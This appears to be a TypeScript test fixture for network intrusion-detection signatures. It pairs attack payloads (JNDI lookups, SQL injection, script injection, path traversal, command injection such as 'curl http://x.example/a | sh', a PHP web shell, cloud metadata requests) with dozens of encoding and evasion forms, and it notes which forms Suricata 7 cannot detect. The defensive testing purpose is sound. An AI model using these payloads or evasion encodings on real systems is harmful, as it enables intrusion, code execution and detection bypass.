// Attacks of each class in every place of a request and in every form in which a client can write them there.

import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import type { Traffic } from './capture.ts'
import { searches } from './ordinary.ts'
import { http, page } from './traffic.ts'

export interface Attack {
  /** What the name of a signature that recognises it has in it. */
  readonly sign: RegExp
  readonly text: string
}

/** Sids from here on are of the signatures for the same attacks in other places and forms. */
export const firstOfForms = 1_900_240

const lookup = (text: string): string => `$\{${text}}`

/** By class. */
export const attacks: Readonly<Record<string, readonly Attack[]>> = {
  'JNDI lookup': [
    { sign: /JNDI/, text: lookup('jndi:ldap://x.example/a') },
    { sign: /JNDI/, text: lookup(`${lookup('lower:j')}ndi:ldap://x.example/a`) },
    { sign: /JNDI/, text: lookup(`${lookup('::-j')}${lookup('::-n')}di:rmi://x.example/a`) },
    { sign: /JNDI/, text: lookup(`${lookup('env:NONE:-j')}ndi${lookup('env:NONE:-:')}ldap://x.example/a`) },
  ],
  'SQL injection': [
    { sign: /SQL injection/, text: '1 UNION SELECT name, password FROM users' },
    { sign: /SQL injection/, text: '-1 union/**/all/**/select 1,2,3' },
    { sign: /SQL injection/, text: "' OR '1'='1" },
    { sign: /SQL injection/, text: "x' or 1=1 -- " },
    { sign: /SQL injection/, text: "admin'-- " },
    { sign: /SQL injection/, text: "1' AND SLEEP(5) -- " },
    { sign: /SQL injection/, text: "1 and benchmark(5000000,md5('a'))" },
    { sign: /SQL injection/, text: "1; WAITFOR DELAY '0:0:5'" },
    { sign: /SQL injection/, text: '1;select pg_sleep(5)' },
    { sign: /SQL injection/, text: "1; exec master..xp_cmdshell 'dir'" },
    { sign: /SQL injection/, text: "1'; DROP TABLE users -- " },
    { sign: /SQL injection/, text: '1 and extractvalue(1,concat(0x7e,(select version())))' },
    { sign: /SQL injection/, text: '1 and (select 1 from information_schema.tables)=1' },
    { sign: /SQL injection/, text: "1 into outfile '/var/www/a.php'" },
  ],
  'script in a page': [
    { sign: /Script/, text: '<script>alert(1)</script>' },
    { sign: /Script/, text: '<ScRiPt src=//x.example/a.js></sCrIpT>' },
    { sign: /Event handler/, text: '<img src=x onerror=alert(1)>' },
    { sign: /Event handler/, text: '<svg/onload=prompt`1`>' },
    { sign: /Script address/, text: 'javascript:alert(document.cookie)' },
  ],
  'path traversal': [
    { sign: /traversal/, text: '../../../../etc/passwd' },
    { sign: /traversal/, text: '....//....//....//etc/passwd' },
    { sign: /traversal/, text: '..\\..\\..\\windows\\win.ini' },
    { sign: /traversal/, text: '../../WEB-INF/web.xml' },
  ],
  'command injection': [
    { sign: /Password file read/, text: 'x;cat /etc/passwd' },
    { sign: /Password file read/, text: 'x|cat$IFS/etc/passwd' },
    { sign: /User asked/, text: 'x`whoami`' },
    { sign: /User asked/, text: 'x && whoami' },
    { sign: /Command chained/, text: '$(wget http://x.example/a)' },
    { sign: /Download chained/, text: 'x; curl http://x.example/a | sh' },
    { sign: /Shell called/, text: ';/bin/bash -c id' },
    { sign: /PowerShell/, text: 'x & powershell -enc SQBFAFgA' },
  ],
  'external entity': [{ sign: /External entity/, text: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a>&b;</a>' }],
  'template injection': [
    { sign: /Template injection/, text: '{{7*7}}' },
    { sign: /Template injection/, text: lookup('7*7') },
    { sign: /Template injection/, text: '<%= 7*7 %>' },
    { sign: /Objects of Python/, text: "{{''.__class__.__mro__[1].__subclasses__()}}" },
  ],
  'function for a shell': [{ sign: /Function/, text: '() { :;}; /usr/bin/id' }],
  'class loader of Spring': [
    { sign: /Spring/, text: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=a' },
  ],
  'code of PHP': [
    { sign: /PHP code/, text: '<?php system($_GET["c"]); ?>' },
    { sign: /PHP code/, text: '<?php eval(base64_decode("cGhwaW5mbygpOw==")); ?>' },
  ],
  'PHP wrapper': [
    { sign: /PHP wrapper/, text: 'php://filter/convert.base64-encode/resource=index' },
    { sign: /PHP wrapper/, text: 'expect://id' },
    { sign: /PHP wrapper/, text: 'php://input' },
  ],
  'metadata of a cloud': [{ sign: /metadata of a cloud/, text: 'http://169.254.169.254/latest/meta-data/' }],
  'expression of OGNL': [{ sign: /OGNL/, text: "(#a=@java.lang.Runtime@getRuntime().exec('id'))" }],
}

/** What looks like parts of attacks, and is written every day. */
export const harmless: readonly string[] = [
  ...searches,
  'const f = () => { return a || b; }; list.forEach(function() { sum += 1; });',
  `export PATH="${lookup('HOME:-/root')}/bin:$PATH"; NAME=${lookup('1:-world')}; echo ${lookup(`A:-${lookup('B:-none')}`)}`,
  `const text = \`Dear ${lookup('person.name')}, ${lookup('count > 1 ? `$' + '{count} parcels` : "one"')}\``,
  'Dear {{name}}, your order {{order.id}} is ready, {{#each items}}{{this}}{{/each}}',
  '<p>Hello <b>you</b></p><a href="https://x.example/?on=1">link</a><img src="a.png" alt="on load">',
  'We\'ll meet at 5 or 6; it\'s "red" or "green", and 1 or 2 = fine',
  "The administrator's guide; the admin's notes -- a draft",
  'npm run build && echo done; see wget.html, curl.html | more',
  'Select a date; drop by the table, then truncate the list and union all of them',
  '7*7=49, {7, 8}, $7 * 7 pieces, 100% of 7 * 7',
  '../../images/logo.png ../styles/etc.css ..\\..\\src\\main.c',
  'class.module.name, ClassLoader and class[0].loader in Java: java.lang.Runtime',
  'sleep (8 hours) and rest, benchmark(s) of 2026, extract value, waitfor it',
  'Use powershell or bash -c, powershell -command is in the manual',
  '<?xml version="1.0"?><!DOCTYPE html><entity name="system">public</entity>',
  '<?php echo "hello"; ?> and php.net/manual, filter: php',
  'mail admin@shop.example or call 1=2; see #7 -- thanks',
  'https://shop.example/?next=https%3A%2F%2Fshop.example%2Fa%3Fb%3D1%26c%3D2',
]

const hex = (character: string): string => `%${character.charCodeAt(0).toString(16).padStart(2, '0')}`
/** Everything but letters and digits. */
const percent = (text: string): string => text.replaceAll(/[^A-Za-z0-9]/g, hex)
const everything = (text: string): string => text.replaceAll(/./gs, hex)
const form = (text: string): string => percent(text).replaceAll('%20', '+')
const twice = (text: string): string => percent(percent(text))
/** What a careless client leaves as it is. */
const little = (text: string): string => text.replaceAll(/[\s#%&+]/g, hex)
const escaped = (text: string): string =>
  text.replaceAll(/[^A-Za-z0-9]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)
/** As libraries do that protect pages. */
const protectedJson = (text: string): string =>
  JSON.stringify(text)
    .slice(1, -1)
    .replaceAll(/[<>&']/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('latin1')
const wideBig = (text: string): string => Buffer.from(text, 'utf16le').swap16().toString('latin1')

const formType = 'Content-Type: application/x-www-form-urlencoded\r\n'
const jsonType = 'Content-Type: application/json\r\n'
const post = (body: string, headers: string): string => http('/form', { method: 'POST', headers, body })
const chunks = (body: string): string =>
  `${[...body.matchAll(/.{1,7}/gs)].map(([part]) => `${part.length.toString(16)}\r\n${part}\r\n`).join('')}0\r\n\r\n`
const multipart = (text: string): string =>
  `--b\r\nContent-Disposition: form-data; name="a"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n${text}\r\n--b--\r\n`

/** So that something is compressed. */
const prose = Array.from({ length: 300 }, (_, at) => `b${at % 7}=${(at * 7_919).toString(36)}`).join('&')

type Write = (text: string) => string

/** By place and form: the request with the text in it. */
export const forms: Readonly<Record<string, Write>> = {
  'path, percent-encoded': (text) => http(`/a/${percent(text)}`),
  'path, encoded twice': (text) => http(`/a/${twice(text)}`),
  'path, with more slashes and dots': (text) => http(`/a/.//./b/.././/${percent(text)}`),
  'query, few characters encoded': (text) => http(`/a?b=${little(text)}`),
  'query, percent-encoded': (text) => http(`/a?b=${percent(text)}`),
  'query, every character encoded': (text) => http(`/a?b=${everything(text)}`),
  'query, as a form': (text) => http(`/a?b=${form(text)}`),
  'query, encoded twice': (text) => http(`/a?b=${twice(text)}`),
  'header, plain': (text) => http('/a', { headers: `User-Agent: ${text}\r\n` }),
  'header, percent-encoded': (text) => http('/a', { headers: `Referer: http://x.example/?a=${percent(text)}\r\n` }),
  'header, encoded twice': (text) => http('/a', { headers: `X-Forwarded-For: ${twice(text)}\r\n` }),
  'cookie, plain': (text) => http('/a', { headers: `Cookie: a=${text}\r\n` }),
  'cookie, percent-encoded': (text) => http('/a', { headers: `Cookie: a=${percent(text)}\r\n` }),
  'body, form': (text) => post(`a=${form(text)}`, formType),
  'body, form, every character encoded': (text) => post(`a=${everything(text)}`, formType),
  'body, form, encoded twice': (text) => post(`a=${twice(text)}`, formType),
  'body, multipart': (text) => post(multipart(text), 'Content-Type: multipart/form-data; boundary=b\r\n'),
  'body, JSON': (text) => post(JSON.stringify({ a: text }), jsonType),
  'body, JSON for pages': (text) => post(`{"a":"${protectedJson(text)}"}`, jsonType),
  'body, JSON, escaped': (text) => post(`{"a":"${escaped(text)}"}`, jsonType),
  'body, plain text': (text) => post(text, 'Content-Type: text/plain\r\n'),
  'body, form, chunked': (text) => {
    const head = http('/form', { method: 'POST', headers: `${formType}Transfer-Encoding: chunked\r\n` })
    return head + chunks(`a=${form(text)}`)
  },
  'body, UTF-16': (text) => post(wide(`\ufeff<a>${text}</a>`), 'Content-Type: text/xml; charset=utf-16\r\n'),
  'body, UTF-16, big-endian': (text) => post(wideBig(`<a>${text}</a>`), 'Content-Type: text/xml; charset=utf-16be\r\n'),
  'body, gzip': (text) => post(gzipSync(`a=${form(text)}`).toString('latin1'), `${formType}Content-Encoding: gzip\r\n`),
  'body, deflate': (text) =>
    post(deflateSync(`a=${form(text)}`).toString('latin1'), `${formType}Content-Encoding: deflate\r\n`),
  'body, brotli': (text) =>
    post(brotliCompressSync(`${prose}&a=${form(text)}`).toString('latin1'), `${formType}Content-Encoding: br\r\n`),
  'body, base64': (text) => post(`{"a":"${Buffer.from(text).toString('base64')}"}`, jsonType),
  'query, %u': (text) => http(`/a?b=${text.replaceAll(/./gs, (one) => `%u00${hex(one).slice(1)}`)}`),
  'body, behind 70,000 other bytes': (text) => post(`b=${'x'.repeat(70_000)}&a=${form(text)}`, formType),
  'body, behind 3,000 other bytes': (text) => post(`b=${'x'.repeat(3_000)}&a=${form(text)}`, formType),
}

/** Forms that no signature can recognise, and why. */
export const unseenForms: Readonly<Record<string, string>> = {
  'body, brotli': 'Suricata 7 unpacks gzip and deflate in the bodies of requests, and nothing else.',
  'body, base64': 'Only the application knows that a value is base64, and a text has three forms in it.',
  'query, %u': 'No transformation of Suricata 7 reads this form, which only old servers of Microsoft took.',
}

export const requestOf = (request: string): Traffic => ({
  protocol: 'tcp',
  isFromInside: false,
  port: 80,
  turns: [
    { from: 'client', data: Buffer.from(request, 'latin1') },
    { from: 'server', data: Buffer.from(page('ok'), 'latin1') },
  ],
})
